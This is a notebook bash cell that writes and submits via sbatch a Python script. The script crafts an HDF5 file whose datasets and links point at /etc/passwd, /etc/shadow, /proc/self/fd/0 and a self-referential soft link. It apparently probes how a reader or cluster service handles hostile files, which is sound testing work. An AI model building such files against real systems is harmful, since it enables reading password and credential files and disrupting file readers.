%%bash
cat > field.py <<'PROGRAM'
import h5py
import numpy

with h5py.File("field.h5", "w") as file:
    file.create_dataset("t", (8, 8), "u1", external=[("/etc/passwd", 0, 64)])
    file["more"] = h5py.ExternalLink("/etc/shadow", "/x")
    file["ring"] = h5py.SoftLink("/ring")
    layout = h5py.VirtualLayout((8, 8), "f8")
    layout[:] = h5py.VirtualSource("/proc/self/fd/0", "x", (8, 8))
    file.create_virtual_dataset("virtual", layout)
PROGRAM
sbatch --wait --job-name=field --time=1 --output=field.out --wrap="python field.py"
